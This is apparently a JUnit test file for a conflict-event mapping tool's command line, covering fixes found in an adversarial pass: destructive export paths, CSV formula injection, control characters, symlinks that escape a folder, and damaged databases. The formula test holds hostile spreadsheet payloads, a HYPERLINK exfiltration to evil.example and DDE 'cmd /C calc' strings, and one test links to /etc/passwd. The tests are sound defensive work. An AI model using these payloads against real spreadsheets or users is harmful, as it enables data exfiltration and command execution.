package org.clashmap.reliability;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.HexFormat;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Issue 23: the failures an adversarial pass over the command line found. Each case asserts the
 * one-line message naming the file and that nothing stored or on disk changed.
 */
class AdversarialPassTest {
    @TempDir
    static Path tmp;
    static Path baseDb;

    @BeforeAll
    static void storeSomething() {
        baseDb = tmp.resolve("base.db");
        Cli.Run r = Cli.run("ingest", "--db", baseDb.toString(), "--seeds");
        assertEquals(0, r.exit(), r.err());
    }

    /** A fresh copy of the seeded database in its own folder. */
    static Path copyOfBase(String name) throws IOException {
        Path dir = Files.createDirectories(tmp.resolve(name));
        Path db = dir.resolve("s.db");
        Files.copy(baseDb, db, StandardCopyOption.REPLACE_EXISTING);
        return db;
    }

    static String sha(Path f) throws IOException {
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(f)));
        } catch (NoSuchAlgorithmException e) {
            throw new AssertionError(e);
        }
    }

    /** Refused: non-zero exit, exactly one stderr line containing every fragment, no stack trace. */
    static String refused(Cli.Run r, String... fragments) {
        assertNotEquals(0, r.exit(), "exit 0; stdout: " + r.out() + " stderr: " + r.err());
        assertFalse(r.hasStackTrace(), r.err());
        List<String> lines = r.errLines();
        assertEquals(1, lines.size(), "expected one stderr line:\n" + r.err());
        for (String f : fragments) assertTrue(lines.get(0).contains(f), "'" + f + "' not in: " + lines.get(0));
        return lines.get(0);
    }

    // ---- item 1: an export can destroy the database ----

    @Test
    void anExportOverTheDatabaseOrItsSideFilesIsRefused() throws Exception {
        Path db = copyOfBase("export-over-db");
        String before = sha(db);
        DbFingerprint rows = DbFingerprint.of(db);
        Files.createDirectories(db.resolveSibling("x"));
        Path link = db.resolveSibling("link.csv");
        Files.createSymbolicLink(link, db.getFileName());
        List<String> outs = List.of(db.toString(), db.getParent() + "/x/../s.db", db.getParent() + "/./s.db",
                link.toString(), db + "-wal", db + "-shm", db + "-journal");
        for (String out : outs) {
            for (String format : List.of("csv", "gpkg", "kml", "geojson")) {
                refused(Cli.run("export", "--db", db.toString(), "--format", format, "--out", out), out, "is the database");
            }
            refused(Cli.run("control", "export", "--db", db.toString(), "--at", "2016-03-10", "--out", out), out, "is the database");
        }
        Path png = db.resolveSibling("s.db.png");
        Files.createSymbolicLink(png, db.getFileName());
        refused(Cli.run("render", "--db", db.toString(), "--out", png.toString(), "--width", "400", "--height", "400"), png.toString(), "is the database");
        assertEquals(before, sha(db), "the database file changed");
        assertTrue(rows.intactIn(db) && rows.counts().equals(DbFingerprint.of(db).counts()));
        assertTrue(Files.isSymbolicLink(link) && Files.isSymbolicLink(png));
        assertFalse(Files.exists(Path.of(db + "-journal")), "no journal file was made");
    }

    @Test
    void aDatabaseThatIsAnInputFileIsRefused() throws Exception {
        Path dir = Files.createDirectories(tmp.resolve("db-is-input"));
        Path report = dir.resolve("r.txt");
        Files.writeString(report, "قصفت طائرات حربية مدينة حلب وقتل 3 مدنيين.\n");
        String before = sha(report);
        refused(Cli.run("ingest", "--db", report.toString(), report.toString()), report.toString(), "names the input file");
        refused(Cli.run("ingest", "--db", report.toString(), dir.toString()), report.toString(), "names the input file");
        refused(Cli.run("import", "--db", report.toString(), "--format", "ucdp", report.toString()), report.toString(), "names the input file");
        refused(Cli.run("control", "import", "--db", report.toString(), report.toString()), report.toString(), "names the input file");
        assertEquals(before, sha(report));
        try (var s = Files.list(dir)) {
            assertEquals(List.of(report), s.toList(), "no side files were made");
        }
    }

    // ---- item 2: spreadsheet formula injection ----

    @Test
    void csvCellsThatASpreadsheetWouldRunAreNeutralised() throws Exception {
        Path dir = Files.createDirectories(tmp.resolve("formula"));
        Path db = dir.resolve("f.db");
        String link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        Path report = dir.resolve("r.txt");
        Files.writeString(report, link + " قصفت طائرات حربية مدينة حلب وقتل 3 مدنيين.\n");
        Files.writeString(dir.resolve("r.meta.tsv"), "file\toutlet\tpublished\tprecision\tbasis\nr.txt\t@SUM(1+1)*cmd|' /C calc'!A0\t2016-03-10\tday\ttest\n");
        assertEquals(0, Cli.run("ingest", "--db", db.toString(), report.toString()).exit());
        Path ucdp = dir.resolve("ucdp.csv");
        try (var in = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).build()
                .parse(Files.newBufferedReader(HostileInputsTest.excerpt()));
             var out = new org.apache.commons.csv.CSVPrinter(Files.newBufferedWriter(ucdp), org.apache.commons.csv.CSVFormat.DEFAULT)) {
            List<String> header = in.getHeaderNames();
            out.printRecord(header);
            var first = in.iterator().next();
            List<String> row = new java.util.ArrayList<>();
            for (String h : header) {
                row.add(switch (h) {
                    case "source_headline" -> link;
                    case "source_office" -> "+1+cmd|' /C calc'!A0";
                    case "where_coordinates" -> "-2+3";
                    case "adm_1" -> "\t=1+1";
                    default -> first.get(h);
                });
            }
            out.printRecord(row);
        }
        assertEquals(0, Cli.run("import", "--db", db.toString(), "--format", "ucdp", ucdp.toString()).exit());
        Path csv = dir.resolve("out.csv");
        Cli.Run r = Cli.run("export", "--db", db.toString(), "--format", "csv", "--no-bom", "--out", csv.toString());
        assertEquals(0, r.exit(), r.err());
        List<org.apache.commons.csv.CSVRecord> rows;
        try (var p = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).build().parse(Files.newBufferedReader(csv))) {
            rows = p.getRecords();
        }
        assertTrue(rows.size() >= 2, "the report's event and the UCDP row: " + rows.size());
        java.util.Set<String> cells = new java.util.HashSet<>();
        for (var row : rows) {
            for (String column : row.toMap().keySet()) {
                String v = row.get(column);
                if (column.equals("latitude") || column.equals("longitude") || v.isEmpty()) continue;
                assertFalse("=+-@\t\r".indexOf(v.charAt(0)) >= 0, column + " starts with a formula character: " + v);
                cells.add(v);
            }
        }
        assertTrue(cells.contains("'" + link), "the UCDP headline, quoted: " + cells);
        assertTrue(cells.contains("'+1+cmd|' /C calc'!A0"), "the UCDP source office, quoted: " + cells);
        assertTrue(cells.stream().anyMatch(c -> c.startsWith("'@SUM(1+1)")), "the outlet, quoted: " + cells);
    }

    // ---- item 3: XML 1.0-forbidden characters ----

    @Test
    void controlCharactersDoNotBreakTheKml() throws Exception {
        Path dir = Files.createDirectories(tmp.resolve("c0"));
        Path db = dir.resolve("c.db");
        Path report = dir.resolve("r.txt");
        // C0 controls, U+FFFE and a vertical tab inside the sentence; a bell in the outlet
        Files.writeString(report, "قصفت طائرات \u0001حربية مدينة \u000Bحلب وقتل 3 مدنيين\u001F\uFFFE.\n");
        Files.writeString(dir.resolve("r.meta.tsv"), "file\toutlet\tpublished\tprecision\tbasis\nr.txt\tOutlet\u0007X\t2016-03-10\tday\ttest\n");
        assertEquals(0, Cli.run("ingest", "--db", db.toString(), report.toString()).exit());
        Path kml = dir.resolve("out.kml");
        Cli.Run r = Cli.run("export", "--db", db.toString(), "--format", "kml", "--out", kml.toString());
        assertEquals(0, r.exit(), r.err());
        var factory = javax.xml.parsers.DocumentBuilderFactory.newInstance();
        factory.setNamespaceAware(true);
        var doc = factory.newDocumentBuilder().parse(kml.toFile()); // throws on an ill-formed file
        assertTrue(doc.getElementsByTagNameNS("*", "Placemark").getLength() > 0, "the event is in the file");
        String text = Files.readString(kml);
        assertTrue(text.contains("OutletX"), "the outlet, without its bell");
        assertTrue(text.contains("مدينة حلب"), "the sentence, without its controls");
    }

    // ---- item 4: a report that takes too long is skipped, the rest go on ----

    @Test
    void aReportOverTheTimeLimitIsSkippedAndTheOthersAreStored() throws Exception {
        Path db = copyOfBase("time-limit");
        DbFingerprint before = DbFingerprint.of(db);
        Path dir = Files.createDirectories(tmp.resolve("time-limit-reports"));
        Path slow = dir.resolve("a-slow.txt");
        Files.writeString(slow, LONG_LINE.repeat(20));
        Path ok = dir.resolve("b-ok.txt");
        Files.writeString(ok, "قصفت طائرات حربية مدينة حلب وقتل 3 مدنيين في حي الشعار يوم الأحد.\n");
        try (var d = org.clashmap.store.Database.open(db)) {
            // The real extractor, made to read the slow report over and over: its extraction never ends by itself, so
            // only the watchdog's limit can stop it, on a machine of any speed. (A long report with a fixed limit is a
            // race: once extraction got faster, a 600 KB line finished inside 1 s on a fast CI machine.)
            var real = new org.clashmap.extract.RuleBasedExtractor(org.clashmap.gazetteer.Gazetteers.load());
            org.clashmap.extract.Extractor neverEndingOnTheSlowOne = report -> {
                if (!report.source().startsWith("a-slow")) return real.extract(report);
                // ends by the watchdog's interrupt (CancellationException); a broken watchdog fails the test after a
                // minute instead of hanging the build
                long giveUp = System.nanoTime() + java.time.Duration.ofMinutes(1).toNanos();
                while (System.nanoTime() < giveUp) real.extract(report);
                return real.extract(report);
            };
            // the limit the one-sentence report meets with room to spare even under load (50 ms failed a loaded
            // build: issue 22, deterministic builds)
            var ingester = new org.clashmap.ingest.Ingester(neverEndingOnTheSlowOne,
                    new org.clashmap.store.EventStore(d), java.time.Duration.ofSeconds(2));
            var s = ingester.ingestFiles(List.of(slow, ok), org.clashmap.ingest.IngestProgress.NONE, () -> false);
            assertEquals(1, s.problems().size(), s.problems().toString());
            assertTrue(s.problems().get(0).contains(slow.toString()) && s.problems().get(0).contains("took over"), s.problems().get(0));
            assertEquals(1, s.added(), s.toString());
        }
        assertTrue(before.intactIn(db), "rows stored before are unchanged");
        assertEquals(before.counts().get("articles") + 1, DbFingerprint.of(db).counts().get("articles"), "only the small report was added");
    }

    static final String LONG_LINE = "قصفت طائرات حربية مدينة حلب و قتل 3 مدنيين في اشتباكات مع داعش قرب السخنة ";

    // ---- item 5: foreign and damaged databases ----

    static Path foreignDb(String name, int userVersion) throws Exception {
        Path f = Files.createDirectories(tmp.resolve("foreign-" + name)).resolve(name + ".db");
        try (var c = java.sql.DriverManager.getConnection("jdbc:sqlite:" + f); var st = c.createStatement()) {
            st.execute("CREATE TABLE events (id INTEGER PRIMARY KEY, what TEXT)");
            st.execute("INSERT INTO events (what) VALUES ('someone else''s data')");
            st.execute("PRAGMA user_version = " + userVersion);
        }
        return f;
    }

    @Test
    void aSqliteFileThatIsNotClashMapsIsRefusedAndLeftByteIdentical() throws Exception {
        for (int version : new int[]{0, 3}) {
            Path f = foreignDb("v" + version, version);
            String before = sha(f);
            Path report = org.clashmap.testing.Seeds.files().get(0);
            String db = f.toString();
            refused(Cli.run("doctor", "--db", db), db, "not a ClashMap one", "tables events");
            refused(Cli.run("ingest", "--db", db, report.toString()), db, "not a ClashMap one");
            refused(Cli.run("import", "--db", db, "--format", "ucdp", HostileInputsTest.excerpt().toString()), db, "not a ClashMap one");
            refused(Cli.run("export", "--db", db, "--format", "csv", "--out", f.resolveSibling("x.csv").toString()), db, "not a ClashMap one");
            assertEquals(before, sha(f), "the foreign file changed");
            try (var s = Files.list(f.getParent())) {
                assertEquals(List.of(f), s.toList(), "no side files or outputs left beside it");
            }
        }
    }

    @Test
    void aDatabaseWithDamagedPagesIsNotWrittenInto() throws Exception {
        Path db = copyOfBase("damaged");
        long pageSize;
        try (var c = java.sql.DriverManager.getConnection("jdbc:sqlite:" + db); var st = c.createStatement();
             var rs = st.executeQuery("PRAGMA page_size")) {
            pageSize = rs.getLong(1);
        }
        try (var raf = new java.io.RandomAccessFile(db.toFile(), "rw")) {
            byte[] junk = new byte[(int) pageSize];
            new java.util.Random(23).nextBytes(junk);
            for (long page = 3; page * pageSize < raf.length() && page < 12; page += 2) {
                raf.seek(page * pageSize);
                raf.write(junk);
            }
        }
        String before = sha(db);
        Path report = tmp.resolve("damaged-report.txt");
        Files.writeString(report, "قصفت طائرات حربية مدينة حلب وقتل 3 مدنيين في حي الشعار.\n");
        refused(Cli.run("ingest", "--db", db.toString(), report.toString()), db.toString(), "is damaged");
        refused(Cli.run("import", "--db", db.toString(), "--format", "ucdp", HostileInputsTest.excerpt().toString()), db.toString(), "is damaged");
        assertEquals(before, sha(db), "nothing was written into the damaged file");
    }

    // ---- item 8: a garbage file with a valid header ----

    /** The UCDP excerpt's header, then {@code goodRows} of its rows, then {@code garbage} rows of the right width. */
    static Path ucdpWithGarbage(String name, int goodRows, int garbage) throws IOException {
        List<String> lines = Files.readAllLines(HostileInputsTest.excerpt());
        Path f = tmp.resolve(name);
        try (var w = Files.newBufferedWriter(f)) {
            w.write(lines.get(0));
            w.write("\n");
            for (int i = 1; i <= goodRows; i++) w.write(lines.get(i) + "\n");
            String junk = "x" + ",x".repeat(40) + "\n";
            for (int i = 0; i < garbage; i++) w.write(junk);
        }
        return f;
    }

    @Test
    void aFileWithAValidHeaderAndNoUsableRowIsRefusedInOneLine() throws Exception {
        Path db = copyOfBase("garbage");
        DbFingerprint before = DbFingerprint.of(db);
        Path small = ucdpWithGarbage("garbage-small.csv", 0, 500);
        refused(Cli.run("import", "--db", db.toString(), "--format", "ucdp", small.toString()), small.toString(), "has no usable row: 500 malformed rows", "nothing was imported");
        Path big = ucdpWithGarbage("garbage-big.csv", 0, 150_000);
        refused(Cli.run("import", "--db", db.toString(), "--format", "ucdp", big.toString()), big.toString(), "the first 100000 rows are all malformed");
        assertTrue(before.intactIn(db) && before.counts().equals(DbFingerprint.of(db).counts()), "nothing stored");
    }

    @Test
    void malformedRowsAreCountedButOnlyTheFirstAreKept() throws Exception {
        Path db = tmp.resolve("garbage-counted.db");
        Path f = ucdpWithGarbage("garbage-after-good.csv", 3, 250_000);
        List<String> messages = new java.util.ArrayList<>();
        org.clashmap.datasets.ImportSummary s;
        try (var d = org.clashmap.store.Database.open(db)) {
            s = new org.clashmap.datasets.Importer(new org.clashmap.store.DatasetStore(d), messages::add).importFile(org.clashmap.datasets.Format.UCDP, f);
        }
        assertEquals(3, s.imported());
        assertEquals(250_000, s.skipped());
        assertEquals(100, s.problems().size(), "the first 100 kept, the rest counted");
        assertTrue(messages.size() <= 102 + s.unknownActors().size(), "messages bounded: " + messages.size());
        assertTrue(messages.stream().anyMatch(m -> m.equals("249900 more malformed rows skipped, not listed")), messages.toString());
        Cli.Run r = Cli.run("import", "--db", db.toString(), "--format", "ucdp", f.toString());
        assertEquals(0, r.exit(), r.err());
        assertTrue(r.errLines().size() <= 102, "stderr bounded: " + r.errLines().size());
        assertTrue(r.out().contains("250000 malformed rows skipped"), r.out());
    }

    // ---- item 9 (and 11: empty coordinates): control-layer polygons ----

    static Path controlLayer(String name, String geometry) throws IOException {
        Path f = Files.createDirectories(tmp.resolve("control")).resolve(name + ".geojson");
        Files.writeString(f, "{\"type\":\"FeatureCollection\",\"features\":[{\"type\":\"Feature\",\"geometry\":" + geometry
                + ",\"properties\":{\"controller\":\"sdf\",\"valid_from\":\"2018-01-01\"}}]}");
        return f;
    }

    static String ring(int vertices, boolean selfCrossing) {
        // a zigzag band: points along the top edge, then back along the bottom edge; crossing when the bottom runs the same way
        StringBuilder b = new StringBuilder("{\"type\":\"Polygon\",\"coordinates\":[[");
        int half = vertices / 2;
        for (int i = 0; i < half; i++) b.append(String.format(java.util.Locale.ROOT, "[%.6f,%.6f],", 38 + 2.0 * i / half, 35 + (i % 2) * 0.01));
        for (int i = 0; i < half; i++) {
            int k = selfCrossing ? i : half - 1 - i;
            b.append(String.format(java.util.Locale.ROOT, "[%.6f,%.6f],", 38 + 2.0 * k / half, 34.5 - (k % 2) * 0.01));
        }
        b.append("[38.000000,35.000000]]]}");
        return b.toString();
    }

    @Test
    void badControlPolygonsAreRefusedWithTheirReason() throws Exception {
        Path db = copyOfBase("control-bad");
        DbFingerprint before = DbFingerprint.of(db);
        record Bad(String name, String geometry, String fragment) {}
        List<Bad> cases = List.of(
                new Bad("two-points", "{\"type\":\"Polygon\",\"coordinates\":[[[40,34],[41,35]]]}", "the outer ring has 2 positions"),
                new Bad("same-point", "{\"type\":\"Polygon\",\"coordinates\":[[[40,34],[40,34],[40,34],[40,34]]]}", "invalid polygon"),
                new Bad("on-a-line", "{\"type\":\"Polygon\",\"coordinates\":[[[40,34],[41,34],[42,34],[40,34]]]}", "feature 1"),
                new Bad("unclosed", "{\"type\":\"Polygon\",\"coordinates\":[[[40,34],[41,34],[41,35],[40,35]]]}", "the outer ring is not closed"),
                new Bad("hole-outside", "{\"type\":\"Polygon\",\"coordinates\":[[[40,34],[41,34],[41,35],[40,35],[40,34]],"
                        + "[[42,34],[42.5,34],[42.5,34.5],[42,34]]]}", "Hole lies outside shell"),
                new Bad("empty-coordinates", "{\"type\":\"Polygon\",\"coordinates\":[]}", "Polygon has no coordinates"),
                new Bad("empty-multi", "{\"type\":\"MultiPolygon\",\"coordinates\":[[]]}", "has no rings"),
                new Bad("crossing-20k", ring(20_000, true), "too many to repair here"),
                new Bad("huge-150k", ring(150_000, false), "more than 100000"));
        for (Bad b : cases) {
            Path f = controlLayer(b.name(), b.geometry());
            String line = refused(Cli.run("control", "import", "--db", db.toString(), f.toString()), f.toString(), b.fragment(), "nothing was imported");
            assertFalse(line.contains("NullPointer"), line);
        }
        assertTrue(before.intactIn(db) && before.counts().equals(DbFingerprint.of(db).counts()), "nothing stored");
    }

    @Test
    void aBowTieIsRepairedAndStoredAsRepaired() throws Exception {
        Path db = copyOfBase("control-bowtie");
        Path f = controlLayer("bow-tie", "{\"type\":\"Polygon\",\"coordinates\":[[[40,34],[41,35],[41,34],[40,35],[40,34]]]}");
        Cli.Run r = Cli.run("control", "import", "--db", db.toString(), f.toString());
        assertEquals(0, r.exit(), r.err());
        assertTrue(r.err().contains("feature 1: self-intersection repaired"), r.err());
        Cli.Run valid = Cli.run("control", "import", "--db", db.toString(), controlLayer("valid-big", ring(8_000, false)).toString());
        assertEquals(0, valid.exit(), valid.err());
        try (var c = java.sql.DriverManager.getConnection("jdbc:sqlite:" + db); var st = c.createStatement();
             var rs = st.executeQuery("SELECT geometry, min_lon, min_lat, max_lon, max_lat FROM control_layer_zones ORDER BY rowid LIMIT 1")) {
            assertTrue(rs.next());
            var zone = org.clashmap.geo.control.ControlLayerFile.zone("sdf", java.time.LocalDate.of(2018, 1, 1), null, rs.getString(1));
            assertTrue(zone.geometry().isValid(), "the stored geometry is the repaired one: " + rs.getString(1));
            assertEquals(1.0 * 0.5, zone.geometry().getArea(), 1e-9, "both lobes kept");
            var e = zone.geometry().getEnvelopeInternal();
            assertEquals(List.of(e.getMinX(), e.getMinY(), e.getMaxX(), e.getMaxY()), List.of(rs.getDouble(2), rs.getDouble(3), rs.getDouble(4), rs.getDouble(5)),
                    "the bounding box is the stored geometry's");
        }
    }

    // ---- item 10: symbolic links in an ingested folder ----

    @Test
    void linksLeadingOutOfAnIngestedFolderAreSkippedAndReported() throws Exception {
        Path db = copyOfBase("links");
        DbFingerprint before = DbFingerprint.of(db);
        Path outside = Files.createDirectories(tmp.resolve("links-outside")).resolve("secret.txt");
        Files.writeString(outside, "قصفت طائرات حربية مدينة حلب وقتل 7 مدنيين. كلمة سر لا تخص أحدا.\n");
        Path folder = Files.createDirectories(tmp.resolve("links-folder"));
        Path inside = folder.resolve("a-report.txt");
        Files.writeString(inside, "قصفت طائرات حربية مدينة حلب وقتل 3 مدنيين في حي الشعار.\n");
        Path toSecret = folder.resolve("b-secret.txt");
        Files.createSymbolicLink(toSecret, outside);
        Path toShadow = folder.resolve("c-passwd.txt");
        Files.createSymbolicLink(toShadow, Path.of("/etc/passwd")); // exists on every Linux
        Path toInside = folder.resolve("d-same.txt");
        Files.createSymbolicLink(toInside, inside.getFileName()); // inside the folder: followed (and already stored by then)
        Cli.Run r = Cli.run("ingest", "--db", db.toString(), folder.toString());
        assertEquals(3, r.exit(), "problems were listed: " + r.err());
        List<String> lines = r.errLines();
        assertEquals(2, lines.size(), r.err());
        assertTrue(lines.get(0).contains(toSecret.toString()) && lines.get(0).contains("outside " + folder) && lines.get(0).contains("skipped"), lines.get(0));
        assertTrue(lines.get(1).contains(toShadow.toString()) && lines.get(1).contains("skipped"), lines.get(1));
        assertTrue(r.out().startsWith("1 reports added, 1 already stored"), r.out());
        assertTrue(before.intactIn(db));
        assertEquals(before.counts().get("articles") + 1, DbFingerprint.of(db).counts().get("articles"), "only the report inside was stored");
        try (var c = java.sql.DriverManager.getConnection("jdbc:sqlite:" + db); var st = c.createStatement();
             var rs = st.executeQuery("SELECT count(*) FROM articles WHERE text LIKE '%كلمة سر%'")) {
            assertEquals(0, rs.getLong(1), "the linked file's text is not stored");
        }
    }

    // ---- item 11: the smaller ones ----

    @Test
    void staleTemporaryFilesOfKilledExportsAreCleanedOnTheNextRun() throws Exception {
        Path db = copyOfBase("stale-temps");
        Path dir = Files.createDirectories(tmp.resolve("stale-temps-out"));
        long deadPid = 4_000_000; // above Linux's pid_max: no such process
        while (ProcessHandle.of(deadPid).isPresent()) deadPid++;
        String uuid = "0f8fad5b-d9cb-469f-a165-70867728950e";
        java.nio.file.attribute.FileTime twoHoursAgo = java.nio.file.attribute.FileTime.from(java.time.Instant.now().minusSeconds(7200));
        Path killed = Files.writeString(dir.resolve(".events.gpkg." + deadPid + "-" + uuid + ".tmp.gpkg"), "half an export");
        Path killedJournal = Files.writeString(dir.resolve(".events.gpkg." + deadPid + "-" + uuid + ".tmp.gpkg-journal"), "its journal");
        Path oldStyle = Files.writeString(dir.resolve(".other.csv." + uuid + ".tmp"), "old-style temp");
        Files.setLastModifiedTime(oldStyle, twoHoursAgo);
        Path oldPng = Files.writeString(dir.resolve(".map.png123456789.part"), "old image temp");
        Files.setLastModifiedTime(oldPng, twoHoursAgo);
        // left alone: an export still running (a live process), a recent old-style temp, anyone else's hidden file
        long livePid = ProcessHandle.current().parent().map(ProcessHandle::pid).orElse(1L);
        Path running = Files.writeString(dir.resolve(".events.kml." + livePid + "-" + uuid + ".tmp"), "being written");
        Path recent = Files.writeString(dir.resolve(".x.csv." + uuid + ".tmp"), "maybe still written");
        Path hidden = Files.writeString(dir.resolve(".bashrc"), "not ours");
        Path usersPart = Files.writeString(dir.resolve(".backup2023.part"), "not ours either, however old");
        Files.setLastModifiedTime(usersPart, twoHoursAgo);
        Cli.Run r = Cli.run("export", "--db", db.toString(), "--format", "csv", "--out", dir.resolve("events.csv").toString());
        assertEquals(0, r.exit(), r.err());
        for (Path gone : List.of(killed, killedJournal, oldStyle, oldPng)) assertFalse(Files.exists(gone), gone + " is stale");
        for (Path kept : List.of(running, recent, hidden, usersPart, dir.resolve("events.csv"))) assertTrue(Files.exists(kept), kept + " must stay");
    }

    @Test
    void minConfidenceNaNIsRefused() throws Exception {
        Path db = copyOfBase("nan");
        Path out = db.resolveSibling("nan.csv");
        for (String v : List.of("NaN", "-0.1", "1.5", "Infinity")) {
            refused(Cli.run("export", "--db", db.toString(), "--format", "csv", "--min-confidence", v, "--out", out.toString()),
                    "--min-confidence must be a number between 0 and 1");
        }
        assertFalse(Files.exists(out));
    }

    @Test
    void aFullDiskDuringAPngWriteGivesTheReasonAndNoStrayStackTrace() throws Exception {
        Path log = tmp.resolve("png-full.err");
        Path outLog = tmp.resolve("png-full.out");
        Process p = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(), "-Djava.awt.headless=true",
                "-cp", System.getProperty("java.class.path"), PngOnAFullDisk.class.getName())
                .redirectError(log.toFile()).redirectOutput(outLog.toFile()).start();
        assertTrue(p.waitFor(60, java.util.concurrent.TimeUnit.SECONDS));
        assertEquals(0, p.exitValue());
        assertTrue(Files.readString(outLog).startsWith("refused: "), Files.readString(outLog));
        assertEquals("", Files.readString(log), "nothing on stderr at exit");
    }
}
